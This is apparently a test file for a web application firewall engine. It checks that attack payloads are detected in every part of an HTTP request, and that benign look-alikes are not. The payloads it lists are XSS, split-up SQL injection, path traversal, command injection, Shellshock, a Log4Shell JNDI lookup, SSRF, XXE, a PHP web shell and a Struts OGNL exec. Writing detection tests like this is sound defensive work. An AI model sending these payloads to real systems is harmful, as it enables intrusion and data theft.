/**
 * One payload of each common class in every place a request can carry it, as a WAF test suite
 * puts it there: each must alert at level 1 wherever it sits. A place the placements stop reading
 * (or read in a way that hides a payload, as a too-lenient GraphQL check once did) fails here.
 */
import { gzipSync } from 'node:zlib';
import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { buildExchange, type ExchangeSpec } from '@/test/fixtures/traffic';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  "' OR '1'='1' --",
  '1 UNION SELECT username,password FROM users',
  '../../../../etc/passwd',
  ';cat /etc/passwd',
  '() { :; }; /bin/bash -c id',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}{{config.__class__}}',
  'http://169.254.169.254/latest/meta-data/',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  '<?php system($_GET["c"]); ?>',
];

const E = encodeURIComponent;
const multipart = (part: string) => ({
  method: 'POST',
  target: '/upload',
  requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']] as Array<[string, string]>,
  requestBody: `--XX\r\n${part}\r\n--XX--\r\n`,
});
const json = (body: unknown, type = 'application/json') => ({
  method: 'POST',
  target: '/api',
  requestHeaders: [['Content-Type', type]] as Array<[string, string]>,
  requestBody: JSON.stringify(body),
});
const header = (name: string, value: string) => ({ target: '/', requestHeaders: [[name, value]] as Array<[string, string]> });
const xmlEscape = (p: string) => p.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

const PLACES: Record<string, (p: string) => Omit<ExchangeSpec, 'id' | 'host'>> = {
  'path segment': (p) => ({ target: `/files/${E(p)}` }),
  'path after a script': (p) => ({ target: `/index.php/${p.replace(/ /g, '%20').replace(/#/g, '%23').replace(/\?/g, '%3F')}` }),
  'matrix parameter': (p) => ({ target: `/items;jsessionid=1;x=${E(p)}/view` }),
  'query value': (p) => ({ target: `/a?q=${E(p)}` }),
  'query name': (p) => ({ target: `/a?${E(p)}=1` }),
  'bare query': (p) => ({ target: `/a?${E(p)}` }),
  'repeated parameter': (p) => ({ target: `/a?q=1&q=${E(p)}` }),
  // nginx passes what follows a '#' on in the query string (PHP then reads q).
  'query after a #': (p) => ({ target: `/a?x=1#&q=${E(p)}` }),
  'array parameter': (p) => ({ target: `/a?q[]=${E(p)}` }),
  'form value': (p) => ({
    method: 'POST',
    target: '/f',
    requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8']],
    requestBody: `a=1&b=${E(p)}`,
  }),
  'form name': (p) => ({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `${E(p)}=1` }),
  'unlabelled form': (p) => ({ method: 'POST', target: '/f', requestBody: `a=1&b=${E(p)}` }),
  'text/plain body': (p) => ({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'text/plain']], requestBody: p }),
  'JSON value': (p) => json({ user: { bio: p } }),
  'JSON array': (p) => json([1, p]),
  'JSON key': (p) => json({ a: { b: [{ [p]: 1 }] } }),
  'vendor JSON type': (p) => json({ data: { attributes: { name: p } } }, 'application/vnd.api+json'),
  'gzip JSON': (p) => ({ ...json({ name: p }), requestBody: gzipSync(JSON.stringify({ name: p })), requestContentEncoding: 'gzip' }),
  'JSON in text/plain (a beacon)': (p) => json({ event: 'view', label: p }, 'text/plain;charset=UTF-8'),
  'GraphQL variable': (p) => json({ query: 'query Q($id: String!) { user(id: $id) { name } }', variables: { id: p } }),
  'GraphQL literal': (p) => json({ query: `query { user(id: ${JSON.stringify(p)}) { name } }` }),
  'XML text': (p) => ({
    method: 'POST',
    target: '/x',
    requestHeaders: [['Content-Type', 'text/xml']],
    requestBody: p.startsWith('<!DOCTYPE') ? p : `<a><b>${xmlEscape(p)}</b></a>`,
  }),
  'XML attribute': (p) => ({
    method: 'POST',
    target: '/soap',
    requestHeaders: [['Content-Type', 'application/xml']],
    requestBody: `<order><item id="${xmlEscape(p)}">x</item></order>`,
  }),
  'SOAP CDATA': (p) => ({
    method: 'POST',
    target: '/x',
    requestHeaders: [['Content-Type', 'application/soap+xml']],
    requestBody: `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><q><![CDATA[${p}]]></q></s:Body></s:Envelope>`,
  }),
  'multipart field': (p) => multipart(`Content-Disposition: form-data; name="comment"\r\n\r\n${p}`),
  'multipart part name': (p) => multipart(`Content-Disposition: form-data; name="${p.replace(/"/g, '%22')}"\r\n\r\nhello`),
  'multipart file name': (p) =>
    multipart(`Content-Disposition: form-data; name="f"; filename="${p.replace(/"/g, '%22')}"\r\nContent-Type: text/plain\r\n\r\nhello`),
  'multipart with bare LF line ends': (p) => ({
    method: 'POST',
    target: '/upload',
    requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']],
    requestBody: `--XX\nContent-Disposition: form-data; name="comment"\n\n${p}\n--XX--\n`,
  }),
  // A real upload holds binary bytes; one NUL or a binary file must not make the fields unread.
  'multipart field beside a binary file': (p) => ({
    ...multipart(''),
    requestBody: Buffer.concat([
      Buffer.from('--XX\r\nContent-Disposition: form-data; name="photo"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'),
      Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 37) % 256)),
      Buffer.from(`\r\n--XX\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${p}\r\n--XX--\r\n`),
    ]),
  }),
  'form with a raw NUL in another field': (p) => ({
    method: 'POST',
    target: '/f',
    requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
    requestBody: `pad=\u0000\u0000&b=${E(p)}`,
  }),
  'multipart JSON part': (p) =>
    multipart(`Content-Disposition: form-data; name="meta"\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ title: p })}`),
  'cookie value': (p) => header('Cookie', `sid=abc; pref=${p.replace(/;/g, '%3B')}`),
  'cookie name': (p) => header('Cookie', `${E(p)}=1`),
  'User-Agent': (p) => header('User-Agent', p),
  Referer: (p) => header('Referer', `https://a.example.com/?q=${E(p)}`),
  'X-Forwarded-For': (p) => header('X-Forwarded-For', p),
  'custom header': (p) => header('X-Api-Version', p),
  'Accept-Language': (p) => header('Accept-Language', p),
  Origin: (p) => header('Origin', p),
  'Authorization in place of a token': (p) => header('Authorization', `Bearer ${p}`),
};

describe('every payload alerts in every place', () => {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
  let n = 0;
  it.each(Object.keys(PLACES))('%s', (place) => {
    const missed = PAYLOADS.filter((payload) => {
      const events = engine.analyze(buildExchange({ id: `m${n++}`, host: 'a.example.com', ...PLACES[place]!(payload) }), { sensorId: 's', sensorTags: [] });
      return !events.some((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
    });
    expect(missed).toEqual([]);
  });
});

describe('a repeated query parameter', () => {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
  const alerts = (query: string) =>
    engine
      .analyze(buildExchange({ id: `r${query.length}`, host: 'a.example.com', target: `/news.aspx?${query}` }), { sensorId: 's', sensorTags: [] })
      .some((e) => e.msg_type === 'MatchEvent');

  it('is read joined by commas, as ASP.NET joins it, when SQL comments glue its pieces into a UNION', () => {
    expect(alerts('id=1/*&id=*/UNION/*&id=*/SELECT%20name%2Cpassword_hash/*&id=*/FROM%20Users--')).toBe(true);
  });

  it('is read so in a form body too', () => {
    const form = (body: string) =>
      engine
        .analyze(
          buildExchange({
            method: 'POST',
            host: 'a.example.com',
            target: '/Products/Search.aspx',
            requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
            requestBody: body,
          }),
          { sensorId: 's', sensorTags: [] },
        )
        .some((e) => e.msg_type === 'MatchEvent');
    expect(form('id=1/*&id=*/UNION/*&id=*/SELECT+name/*&id=*/password/*&id=*/FROM+users--')).toBe(true);
    expect(form('glob=src/*.ts&glob=*/index.ts&tag=a&tag=b')).toBe(false);
  });

  it('is not when its values are a plain list', () => {
    expect(alerts('tag=a&tag=b&tag=c&sort=name')).toBe(false);
    expect(alerts('glob=src/*.ts&glob=*/index.ts')).toBe(false);
  });
});

describe('parameters a SQL comment bridges', () => {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
  const alertsOn = (query: string) =>
    engine
      .analyze(buildExchange({ id: `b${query}`, host: 'a.example.com', target: `/search?${query}` }), { sensorId: 's', sensorTags: [] })
      .flatMap((e) => (e.msg_type === 'MatchEvent' ? e.matches.map((m) => m.classification) : []));

  it('are read joined, as a query built from both fields reads them, when one opens a comment and a later one closes it', () => {
    expect(alertsOn("brand=x'+UNION%2F*&model=*%2FSELECT+card_no%2Ccvv+FROM+payments--+-")).toContain('SqlInjection');
    // A field between them is inside the comment too.
    expect(alertsOn("a=1'+OR%2F*&page=2&b=*%2F1%3D1--+-")).toContain('SqlInjection');
  });

  it('are not when what the comment joins is no SQL', () => {
    expect(alertsOn('src=lib%2F*&dest=*%2Fdist')).toEqual([]);
    expect(alertsOn('note=see+%2F*+below&reply=ok+*%2F+thanks')).toEqual([]);
  });
});

describe('an imported CSV file', () => {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
  const alerts = (csv: string, type = 'text/csv', name = 'products.csv') =>
    engine
      .analyze(
        buildExchange({
          id: `csv${csv.length}${name}`,
          host: 'a.example.com',
          ...multipart(`Content-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${csv}`),
        }),
        { sensorId: 's', sensorTags: [] },
      )
      .some((e) => e.msg_type === 'MatchEvent');

  it('is read for script its cells would store (stored XSS through an import)', () => {
    expect(alerts('sku,name,price\r\nA-100,"<script>alert(document.domain)</script>",19.99\r\n')).toBe(true);
    expect(alerts('sku,name\r\nA-1,<img src=x onerror=alert(1)>\r\n', 'application/vnd.ms-excel')).toBe(true);
  });

  it('is not alerted for its ordinary data and formatting markup', () => {
    expect(alerts('sku,name,body_html\r\nA-100,"Tee, basic","<p>Soft <b>cotton</b> tee</p>"\r\nA-101,Mug,<ul><li>350 ml</li></ul>\r\n')).toBe(false);
  });
});

describe('a Content-Type header', () => {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
  const alerts = (contentType: string) =>
    engine
      .analyze(
        buildExchange({
          id: `ct${contentType.length}`,
          host: 'a.example.com',
          method: 'POST',
          target: '/upload',
          requestHeaders: [['Content-Type', contentType]],
          requestBody: 'x',
        }),
        { sensorId: 's', sensorTags: [] },
      )
      .some((e) => e.msg_type === 'MatchEvent');

  it("is not read for its multipart boundary, the client's own fence of dashes and quotes", () => {
    expect(alerts('multipart/related; boundary="-------314159265358979323846"')).toBe(false);
    expect(alerts("multipart/form-data; boundary=----'--x")).toBe(false);
  });

  it('is read for the rest', () => {
    expect(alerts("%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}")).toBe(true);
    expect(alerts("multipart/form-data; boundary=x; charset=' or 1=1--")).toBe(true);
  });
});
